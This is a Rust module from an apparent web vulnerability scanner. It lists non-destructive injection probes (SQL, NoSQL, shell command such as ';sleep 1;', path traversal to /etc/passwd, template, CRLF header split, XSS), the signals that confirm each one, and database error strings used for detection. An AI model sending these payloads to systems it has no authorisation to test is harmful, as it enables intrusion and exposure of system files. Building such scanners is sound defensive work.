//! The payloads: few, harmless where they do not work, and each with what would show that it does.
//! They read and wait; none changes or deletes anything.

/// What is tried with a payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Kind {
    Sql,
    NoSql,
    Command,
    Path,
    Template,
    Header,
    Xss,
}

impl Kind {
    pub(super) const ALL: [Kind; 7] =
        [Kind::Sql, Kind::NoSql, Kind::Command, Kind::Path, Kind::Template, Kind::Header, Kind::Xss];

    pub(super) fn name(self) -> &'static str {
        match self {
            Kind::Sql => "sql",
            Kind::NoSql => "nosql",
            Kind::Command => "command",
            Kind::Path => "path",
            Kind::Template => "template",
            Kind::Header => "header",
            Kind::Xss => "xss",
        }
    }
}

/// What shows that a payload worked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Oracle {
    /// The answer has a text that the good answer has not, such as what a database says.
    ErrorText,
    /// The answer has this text, which nothing that was sent has.
    Computed(&'static str),
    /// The answer is a page and has the payload as it was sent.
    Reflected,
    /// The answer has a header of its own that was sent as a value.
    SplitHeader,
    /// The answer comes so much later than that to the twin, again and again.
    Slow(&'static str),
    /// It is answered as the good value, and its twin, which is never true, is not, again and again.
    Differs(&'static str),
    /// The service fails (500 or more) and does not for its twin, again and again.
    Breaks(&'static str),
}

/// One payload. It stands behind the good value, or in its place.
#[derive(Debug, Clone, Copy)]
pub(super) struct Payload {
    /// Stable: it is in facts.
    pub(super) id: &'static str,
    pub(super) kind: Kind,
    pub(super) text: &'static str,
    /// Whether it stands behind the good value instead of in its place.
    pub(super) behind: bool,
    pub(super) oracle: Oracle,
}

/// Waits that are seen beside the time of ordinary answers.
pub(super) const SLEEP_MS: u64 = 1_000;
/// The header that a split answer would have.
pub(super) const HEADER: &str = "x-gonogo-split";

const fn payload(id: &'static str, kind: Kind, text: &'static str, behind: bool, oracle: Oracle) -> Payload {
    Payload { id, kind, text, behind, oracle }
}

/// Every payload.
pub(super) const PAYLOADS: &[Payload] = &[
    payload("sql-quote", Kind::Sql, "'", true, Oracle::Breaks("''")),
    payload("sql-double-quote", Kind::Sql, "\"", true, Oracle::Breaks("\"\"")),
    payload("sql-nul", Kind::Sql, "\0", true, Oracle::ErrorText),
    payload("sql-true-false", Kind::Sql, "' AND '1'='1", true, Oracle::Differs("' AND '1'='2")),
    payload("sql-true-false-like", Kind::Sql, "%' AND '1%'='1", true, Oracle::Differs("%' AND '1%'='2")),
    payload(
        "sql-true-false-bracket",
        Kind::Sql,
        "%') AND LOWER('1%')=LOWER('1",
        true,
        Oracle::Differs("%') AND LOWER('1%')=LOWER('2"),
    ),
    payload("sql-true-false-number", Kind::Sql, " AND 1=1", true, Oracle::Differs(" AND 1=2")),
    payload(
        "sql-sleep-postgres",
        Kind::Sql,
        "' || (SELECT '' FROM pg_sleep(1)) || '",
        true,
        Oracle::Slow("' || (SELECT '' FROM pg_sleep(0)) || '"),
    ),
    payload("sql-sleep-mysql", Kind::Sql, "' OR SLEEP(1) OR '", true, Oracle::Slow("' OR SLEEP(0) OR '")),
    payload("nosql-operator", Kind::NoSql, "{\"$gt\": \"\"}", false, Oracle::ErrorText),
    payload("nosql-quote", Kind::NoSql, "'\"\\;{}", true, Oracle::ErrorText),
    payload("command-sleep", Kind::Command, ";sleep 1;", true, Oracle::Slow(";sleep 0;")),
    payload("command-substitution", Kind::Command, "$(sleep 1)", true, Oracle::Slow("$(sleep 0)")),
    payload("command-computed", Kind::Command, ";expr 7331 + 1448;", true, Oracle::Computed("8779")),
    payload(
        "path-passwd",
        Kind::Path,
        "../../../../../../../../etc/passwd",
        false,
        Oracle::Computed("root:x:0:0:"),
    ),
    payload("path-absolute", Kind::Path, "/etc/passwd", false, Oracle::Computed("root:x:0:0:")),
    payload("template-braces", Kind::Template, "{{7331*1448}}", false, Oracle::Computed("10615288")),
    payload("template-dollar", Kind::Template, "${7331*1448}", false, Oracle::Computed("10615288")),
    payload("template-erb", Kind::Template, "<%= 7331*1448 %>", false, Oracle::Computed("10615288")),
    payload("header-split", Kind::Header, "gonogo\r\nX-Gonogo-Split: yes", false, Oracle::SplitHeader),
    payload("xss-tag", Kind::Xss, "<gonogo onload=\"x\">", true, Oracle::Reflected),
    payload("xss-attribute", Kind::Xss, "\"'><gonogo>", true, Oracle::Reflected),
];

/// What databases, languages and frameworks say when they stumble. Each is long enough that no
/// ordinary answer has it.
pub(super) const ERROR_TEXTS: &[(&str, &str)] = &[
    ("unterminated quoted string", "postgres"),
    ("syntax error at or near", "postgres"),
    ("invalid byte sequence for encoding", "postgres"),
    ("error returned from database", "sqlx"),
    ("pg_query", "php"),
    ("psycopg2.", "python"),
    ("you have an error in your sql syntax", "mysql"),
    ("unrecognized token:", "sqlite"),
    ("sqlite3.operationalerror", "sqlite"),
    ("sqlite_error", "sqlite"),
    ("\": syntax error", "sqlite"),
    ("ora-0", "oracle"),
    ("unclosed quotation mark after", "sqlserver"),
    ("sqlstate[", "php"),
    ("org.postgresql.util.psqlexception", "java"),
    ("java.sql.sqlexception", "java"),
    ("mongoerror", "mongodb"),
    ("mongoservererror", "mongodb"),
    ("bsontypeerror", "mongodb"),
    ("casterror", "mongodb"),
    ("traceback (most recent call last)", "python"),
    ("panicked at", "rust"),
    ("goroutine 1 [", "go"),
    ("runtime error:", "go"),
    ("at object.<anonymous>", "node"),
    ("node_modules/", "node"),
    ("exception in thread", "java"),
    ("stack trace:", "dotnet"),
    ("fatal error: uncaught", "php"),
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn no_payload_says_what_would_show_that_it_worked() {
        let mut ids = BTreeSet::new();
        for payload in PAYLOADS {
            assert!(ids.insert(payload.id), "{}", payload.id);
            assert!(payload.id.starts_with(payload.kind.name()), "{}", payload.id);
            if let Oracle::Computed(text) = payload.oracle {
                assert!(!payload.text.contains(text), "{}", payload.id);
            }
            let said = payload.text.to_lowercase();
            assert!(!ERROR_TEXTS.iter().any(|(text, _)| said.contains(text)), "{}", payload.id);
            for word in ["drop", "delete", "update", "insert", "rm ", ">"] {
                assert!(
                    !said.contains(word) || payload.kind == Kind::Xss || payload.id == "template-erb",
                    "{}",
                    payload.id
                );
            }
        }
        assert!(ERROR_TEXTS.iter().all(|(text, _)| *text == text.to_lowercase()));
    }
}
